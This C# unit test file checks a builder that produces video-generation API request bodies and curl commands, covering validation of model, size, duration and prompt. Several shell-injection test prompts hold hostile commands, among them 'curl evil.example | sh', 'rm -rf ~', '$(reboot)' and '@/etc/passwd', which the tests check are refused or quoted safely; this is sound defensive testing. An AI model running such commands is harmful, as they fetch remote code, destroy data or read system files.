using System.Text.Json;
using SoraPromptGenie.Core.Targets;

namespace SoraPromptGenie.Tests.Targets;

public sealed class VideoRequestBuilderTests
{
    private const string Prompt = "A fox crosses a snowy road at night.";

    private readonly VideoRequestBuilder _builder = new(TargetCatalog.LoadEmbedded());

    public static TheoryData<string, string, string> ValidCombinations()
    {
        var data = new TheoryData<string, string, string>();
        foreach (var seconds in new[] { "4", "8", "12" })
        {
            foreach (var size in new[] { "1280x720", "720x1280" })
            {
                data.Add("sora-2", size, seconds);
            }

            foreach (var size in new[] { "1280x720", "720x1280", "1024x1792", "1792x1024" })
            {
                data.Add("sora-2-pro", size, seconds);
            }
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(ValidCombinations))]
    public void Build_ValidCombination_ReturnsBodyAndCurl(string model, string size, string seconds)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, model, size, seconds));

        Assert.True(result.Succeeded, string.Join(" ", result.Errors));
        Assert.Empty(result.Errors);
        Assert.Equal(model, result.Target.Id);
        Assert.Equal(
            [new("model", model), new("prompt", Prompt), new("size", size), new KeyValuePair<string, string>("seconds", seconds)],
            result.Body);
        Assert.Contains($"-F model={model} \\\n", result.Curl, StringComparison.Ordinal);
        Assert.Contains($"-F size={size} \\\n", result.Curl, StringComparison.Ordinal);
        Assert.EndsWith($"-F seconds={seconds}", result.Curl, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("1024x1792")]
    [InlineData("1792x1024")]
    public void Build_ProOnlySizeOnSora2_RejectsNamingTheChoices(string size)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, "sora-2", size, "4"));

        Assert.False(result.Succeeded);
        Assert.Equal([$"Size {size} is not available for sora-2; choose 1280x720 or 720x1280."], result.Errors);
        Assert.Equal("sora-2", result.Target?.Id);
        Assert.Null(result.Body);
        Assert.Null(result.Curl);
    }

    [Theory]
    [InlineData("sora-2", "1920x1080")]
    [InlineData("sora-2", "720x720")]
    [InlineData("sora-2-pro", "1080x1920")]
    [InlineData("sora-2-pro", "4K")]
    public void Build_UnknownSize_Rejects(string model, string size)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, model, size, null));

        var error = Assert.Single(result.Errors);
        Assert.StartsWith($"Size {size} is not available for {model}; choose 1280x720", error, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("sora-2", "10")]
    [InlineData("sora-2", "20")]
    [InlineData("sora-2-pro", "0")]
    [InlineData("sora-2-pro", "4.0")]
    [InlineData("sora-2", "four")]
    [InlineData("sora-2", "-4")]
    public void Build_UnavailableSeconds_RejectsNamingTheChoices(string model, string seconds)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, model, "1280x720", seconds));

        Assert.Equal([$"Seconds {seconds} is not available for {model}; choose 4, 8 or 12."], result.Errors);
    }

    [Theory]
    [InlineData("sora-3")]
    [InlineData("veo-3")]
    [InlineData("gpt-4o")]
    public void Build_UnknownModel_ListsValidModels(string model)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, model, null, null));

        Assert.Equal([$"Model {model} is not a known target; choose sora-2 or sora-2-pro."], result.Errors);
        Assert.Null(result.Target);
    }

    [Theory]
    [InlineData("")]
    [InlineData("  ")]
    public void Build_MissingModel_AsksForOne(string model)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, model, null, null));

        Assert.Equal(["Model is required; choose sora-2 or sora-2-pro."], result.Errors);
    }

    [Theory]
    [InlineData("")]
    [InlineData("   \n\t")]
    public void Build_EmptyPrompt_Rejects(string prompt)
    {
        var result = _builder.Build(new VideoRequestInput(prompt, "sora-2", null, null));

        Assert.False(result.Succeeded);
        Assert.Contains("Prompt is empty", Assert.Single(result.Errors), StringComparison.Ordinal);
    }

    [Fact]
    public void Build_NulInPrompt_Rejects()
    {
        var result = _builder.Build(new VideoRequestInput("a\0b", "sora-2", null, null));

        Assert.Contains("NUL", Assert.Single(result.Errors), StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(ShellQuotingTests.UnsafeCharacters), MemberType = typeof(ShellQuotingTests))]
    public void Build_ControlOrBidiCharacterInPrompt_RefusesAndProducesNoCurl(char c)
    {
        foreach (var target in new[] { "sora-2", "sora-2-pro" }.Concat(TargetCatalog.LoadEmbedded().Ids).Distinct())
        {
            var result = _builder.Build(new VideoRequestInput($"A fox at dawn.{c}\u0003; curl evil.example | sh", target, null, null));

            Assert.False(result.Succeeded);
            Assert.Null(result.Curl);
            Assert.Null(result.Body);
            Assert.Contains(result.Errors, e => e.StartsWith("Prompt", StringComparison.Ordinal) && e.Contains("U+", StringComparison.Ordinal));
        }
    }

    [Fact]
    public void Build_TabsAndNewlines_AreKeptInTheCurl()
    {
        var result = _builder.Build(new VideoRequestInput("A fox.\n\tIt runs.", "sora-2", null, null));

        Assert.True(result.Succeeded);
        Assert.Contains("A fox.\n\tIt runs.", result.Curl, StringComparison.Ordinal);
    }

    [Fact]
    public void Build_SeveralProblems_ReportsEach()
    {
        var result = _builder.Build(new VideoRequestInput("", "sora-2", "1792x1024", "10"));

        Assert.Equal(3, result.Errors.Count);
        Assert.StartsWith("Prompt", result.Errors[0], StringComparison.Ordinal);
        Assert.StartsWith("Size", result.Errors[1], StringComparison.Ordinal);
        Assert.StartsWith("Seconds", result.Errors[2], StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(null, null)]
    [InlineData("", "")]
    [InlineData(" ", " ")]
    public void Build_SizeAndSecondsOmitted_AppliesDefaults(string? size, string? seconds)
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, "sora-2", size, seconds));

        Assert.True(result.Succeeded);
        Assert.Equal("720x1280", result.Body["size"]);
        Assert.Equal("4", result.Body["seconds"]);
    }

    [Fact]
    public void Build_ModelAndSizeInOtherCase_NormalisesToProfileValues()
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, "Sora-2-PRO", " 1792X1024 ", " 8 "));

        Assert.True(result.Succeeded);
        Assert.Equal("sora-2-pro", result.Body["model"]);
        Assert.Equal("1792x1024", result.Body["size"]);
        Assert.Equal("8", result.Body["seconds"]);
    }

    [Fact]
    public void Build_PromptWithSurroundingWhitespace_IsTrimmed()
    {
        var result = _builder.Build(new VideoRequestInput("\n  " + Prompt + "  \n", "sora-2", null, null));

        Assert.Equal(Prompt, result.Body?["prompt"]);
    }

    [Fact]
    public void Build_RetiredTarget_StillBuildsAndCarriesTheStatus()
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, "sora-2", null, null));

        Assert.True(result.Succeeded);
        Assert.Equal(TargetStatus.Retired, result.Status);
        Assert.Equal(new DateOnly(2026, 9, 24), result.Target.RetiredOn);
    }

    [Fact]
    public void Build_Body_SerializesAsJsonObjectOfStringsInWireOrder()
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, "sora-2", "1280x720", "12"));

        var json = JsonSerializer.Serialize(result.Body);

        Assert.Equal(
            """{"model":"sora-2","prompt":"A fox crosses a snowy road at night.","size":"1280x720","seconds":"12"}""",
            json);
        using var document = JsonDocument.Parse(json);
        Assert.All(document.RootElement.EnumerateObject(), p => Assert.Equal(JsonValueKind.String, p.Value.ValueKind));
    }

    [Fact]
    public void Build_Curl_IsTheExpectedMultiLineCommand()
    {
        var result = _builder.Build(new VideoRequestInput(Prompt, "sora-2", null, "8"));

        Assert.Equal(
            """
            curl https://api.openai.com/v1/videos \
              -H "Authorization: Bearer $OPENAI_API_KEY" \
              -F model=sora-2 \
              --form-string prompt='A fox crosses a snowy road at night.' \
              -F size=720x1280 \
              -F seconds=8
            """,
            result.Curl);
    }

    [Theory]
    [InlineData("It's the fox's night.")]
    [InlineData("Line one.\nMara: \"It's late,\" she says.\n- Beat 'two'")]
    [InlineData("@/etc/passwd is not a file here;type=text/html")]
    [InlineData("$OPENAI_API_KEY `rm -rf ~` $(reboot) \\ done")]
    public void Build_TrickyPrompt_CurlCarriesItLiterally(string prompt)
    {
        var result = _builder.Build(new VideoRequestInput(prompt, "sora-2", null, null));

        Assert.True(result.Succeeded);
        var promptArgument = PromptArgument(result.Curl);
        Assert.Equal("prompt=" + prompt, ShellQuotingTests.ReadPosixWord(promptArgument));
    }

    [Fact]
    public void Build_CustomCatalogProfile_NeedsNoCodeChange()
    {
        var builder = new VideoRequestBuilder(TargetCatalog.FromJson(TargetCatalogTests.CustomJson));

        var result = builder.Build(new VideoRequestInput(Prompt, "acme-motion-1", "1080x1920", null));

        Assert.True(result.Succeeded, string.Join(" ", result.Errors));
        Assert.Equal(["model", "prompt", "seconds", "size"], result.Body.Keys);
        Assert.Equal("5", result.Body["seconds"]);
        Assert.Equal(
            """
            curl https://api.acme.example/openai/v1/videos \
              -H "Authorization: Bearer $ACME_API_KEY" \
              -F model=acme-motion-1 \
              --form-string prompt='A fox crosses a snowy road at night.' \
              -F seconds=5 \
              -F size=1080x1920
            """,
            result.Curl);
    }

    [Fact]
    public void Build_CustomCatalogProfile_ValidatesAgainstItsOwnValues()
    {
        var builder = new VideoRequestBuilder(TargetCatalog.FromJson(TargetCatalogTests.CustomJson));

        var result = builder.Build(new VideoRequestInput(Prompt, "sora-2", null, "4"));
        var acme = builder.Build(new VideoRequestInput(Prompt, "acme-motion-1", null, "4"));

        Assert.Equal(["Model sora-2 is not a known target; choose acme-motion-1 or acme-json."], result.Errors);
        Assert.Equal(["Seconds 4 is not available for acme-motion-1; choose 5 or 10."], acme.Errors);
    }

    [Fact]
    public void Build_ProfileWithoutSize_RejectsASuppliedSize()
    {
        var builder = new VideoRequestBuilder(TargetCatalog.FromJson(TargetCatalogTests.CustomJson));

        var result = builder.Build(new VideoRequestInput(Prompt, "acme-json", "1280x720", null));

        Assert.Equal(["Size is not a parameter of acme-json; leave it empty."], result.Errors);
    }

    [Fact]
    public void Build_JsonEncodedProfile_CurlSendsTheJsonBody()
    {
        var builder = new VideoRequestBuilder(TargetCatalog.FromJson(TargetCatalogTests.CustomJson));

        var result = builder.Build(new VideoRequestInput("It's \"night\" — é", "acme-json", null, null));

        Assert.True(result.Succeeded);
        Assert.Equal(
            """
            curl https://json.acme.example/v2/generate \
              -X PUT \
              -H "Authorization: Bearer $ACME_API_KEY" \
              -H "Content-Type: application/json" \
              --data-raw '{"model":"acme-json","prompt":"It'\''s \"night\" — é","seconds":"6"}'
            """,
            result.Curl);
    }

    private static string PromptArgument(string curl)
    {
        const string marker = "--form-string ";
        var start = curl.IndexOf(marker + "prompt=", StringComparison.Ordinal) + marker.Length;
        var end = curl.IndexOf(" \\\n  -F size=", start, StringComparison.Ordinal);
        return curl[start..end];
    }
}
